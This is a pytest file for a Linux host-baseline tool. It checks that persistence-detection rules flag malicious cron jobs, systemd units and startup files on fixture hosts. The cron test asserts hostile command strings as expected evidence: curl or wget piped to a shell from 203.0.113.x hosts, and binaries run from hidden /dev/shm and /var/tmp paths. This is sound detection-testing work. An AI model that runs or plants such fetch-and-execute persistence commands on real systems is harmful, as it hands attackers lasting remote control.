"""The PC-PERS-* rules of the default profile, evaluated on what the persistence probes parse from golden raw
data (real hosts and hand-made compromised ones)."""

from __future__ import annotations

import json
import re

import pytest

from baselines.evaluate import evaluate
from baselines.model import ActionKind, Finding
from baselines.profile import Profile, load_profile
from probes.observation import Observation
from probes.registry import get_probe
from tests.probes.golden import FIXTURES

PROBES = ("cron", "systemd_units", "startup_files")


@pytest.fixture(scope="module")
def profile() -> Profile:
    return load_profile()


def observe(probe_id: str, case: str) -> list[Observation]:
    raw = json.loads((FIXTURES / probe_id / f"{case}.raw.json").read_text(encoding="utf-8"))
    return [Observation.from_row(probe_id, row) for row in get_probe(probe_id).parse(raw)]


def pers_findings(profile: Profile, probe_id: str, case: str) -> list[Finding]:
    result = evaluate(profile, observe(probe_id, case), "host", {probe_id})
    return [f for f in result.findings if f.rule_id.startswith("PC-PERS-")]


def by_rule(findings: list[Finding]) -> set[tuple[str, str]]:
    return {(f.rule_id, f.subject) for f in findings}


def test_rule_set_is_complete(profile: Profile):
    rules = [r for r in profile.rules if r.id.startswith("PC-PERS-")]
    assert len(rules) >= 8
    for rule in rules:
        assert rule.probe in PROBES
        assert rule.title.en and rule.title.zh and rule.rationale.zh and rule.remediation.steps.zh
        assert re.search(r"[\u4e00-\u9fff]", rule.title.zh + rule.remediation.steps.zh)
        assert "Art. 10(3)" in rule.references and "Art. 26" in rule.references
        assert isinstance(rule.remediation.action, ActionKind)


@pytest.mark.parametrize(("probe_id", "case"), [
    ("cron", "debian12-host"), ("cron", "rhel9-host"),
    ("systemd_units", "debian12-host"),
    ("startup_files", "debian12-host"), ("startup_files", "rhel9-host"),
])
def test_clean_hosts_are_quiet(profile: Profile, probe_id: str, case: str):
    """Stock Debian 12 and RHEL 9 (including RHEL's /etc/bashrc setting PROMPT_COMMAND) give no finding."""
    assert pers_findings(profile, probe_id, case) == []


def test_cron_rules(profile: Profile):
    findings = pers_findings(profile, "cron", "compromised-host")
    rules = {(f.rule_id, f.evidence["command"]) for f in findings}
    assert ("PC-PERS-003", "/dev/shm/.x/kworker >/dev/null 2>&1") in rules
    assert ("PC-PERS-003", "/var/tmp/.ICE-unix/.s/run  >/dev/null 2>&1") in rules
    assert ("PC-PERS-004", "curl -fsSL http://203.0.113.5/u.sh | sh") in rules
    assert ("PC-PERS-004", "(wget -q -O- http://203.0.113.5/p|bash) >/dev/null 2>&1") in rules
    assert ("PC-PERS-004", 'bash -c "$(curl -s http://203.0.113.9/a)"') in rules
    # PATH=/tmp:... in /etc/cron.d/sysupdate taints each of its jobs, and nothing else.
    assert {f.evidence["source"] for f in findings if f.rule_id == "PC-PERS-013"} == {"/etc/cron.d/sysupdate"}
    # The job that only deletes old logs is not flagged by the temp-dir or download rules.
    assert not [f for f in findings if "find /var/log" in f.evidence["command"] and f.rule_id != "PC-PERS-013"]
    crit = next(f for f in findings if f.rule_id == "PC-PERS-004" and "u.sh" in f.evidence["command"])
    assert crit.severity.value == "critical"
    assert crit.remediation.command == "sed -i '3s/^/# disabled by precaution: /' /etc/cron.d/sysupdate"
    assert "/etc/cron.d/sysupdate" in crit.remediation.steps.en and "/etc/cron.d/sysupdate" in crit.remediation.steps.zh


def test_systemd_rules(profile: Profile):
    findings = pers_findings(profile, "systemd_units", "compromised-host")
    assert by_rule(findings) == {
        ("PC-PERS-005", "system|dbus-update.service"),
        ("PC-PERS-005", "system|ssh.service"),  # the drop-in replaced ExecStart with /tmp/.s/sshd
        ("PC-PERS-006", "system|netcheck-run.service"),
        ("PC-PERS-007", "user:alice|syncd.service"),
        ("PC-PERS-007", "user:alice|pipewire.service"),
        ("PC-PERS-009", "system|helper.service"),
    }
    user = next(f for f in findings if f.subject == "user:alice|syncd.service")
    assert user.remediation.command == "systemctl --user -M alice@ disable --now syncd.service"
    assert user.severity.value == "medium"
    ssh = next(f for f in findings if f.subject == "system|ssh.service")
    assert ssh.remediation.command == "systemctl disable --now ssh.service"


def test_startup_rules(profile: Profile):
    findings = pers_findings(profile, "startup_files", "compromised-host")
    assert by_rule(findings) == {
        ("PC-PERS-001", "/etc/ld.so.preload"),
        ("PC-PERS-002", "/etc/rc.local"),
        ("PC-PERS-008", "/etc/profile.d/zz-update.sh"),
        ("PC-PERS-008", "/etc/environment"),
        ("PC-PERS-008", "/home/alice/.bashrc"),
        ("PC-PERS-008", "/home/alice/.profile"),
        ("PC-PERS-010", "/home/alice/.bashrc"),
        ("PC-PERS-010", "/home/alice/.zshrc"),
        ("PC-PERS-011", "/home/alice/.bashrc"),
        ("PC-PERS-012", "/etc/profile.d/zz-update.sh"),
    }
    preload = next(f for f in findings if f.rule_id == "PC-PERS-001")
    assert preload.severity.value == "critical" and preload.remediation.action is ActionKind.ISOLATE
    rc = next(f for f in findings if f.rule_id == "PC-PERS-002")
    assert rc.severity.value == "medium" and rc.remediation.action is ActionKind.INVESTIGATE


def test_remediation_placeholders_all_filled(profile: Profile):
    for probe_id in PROBES:
        for f in pers_findings(profile, probe_id, "compromised-host"):
            for text in (f.remediation.steps.en, f.remediation.steps.zh, f.remediation.command or ""):
                assert not re.search(r"\{[a-z_]+\}", text), (f.rule_id, text)


def test_rc_local_stock_template_is_quiet(profile: Profile):
    """rc.local holding only the shebang, comments and `exit 0` runs nothing: no finding."""
    raw = {"files": [{"path": "/etc/rc.local", "kind": "rc_local", "account": None,
                      "stat": {"mode": 0o100755, "size": 30, "uid": 0}, "text": "#!/bin/sh -e\n# nothing\nexit 0\n"},
                     {"path": "/etc/ld.so.preload", "kind": "ld_so_preload", "account": None,
                      "stat": {"mode": 0o100644, "size": 9, "uid": 0}, "text": "# empty\n\n"}]}
    obs = [Observation.from_row("startup_files", r) for r in get_probe("startup_files").parse(raw)]
    assert evaluate(profile, obs, "h", {"startup_files"}).findings == ()
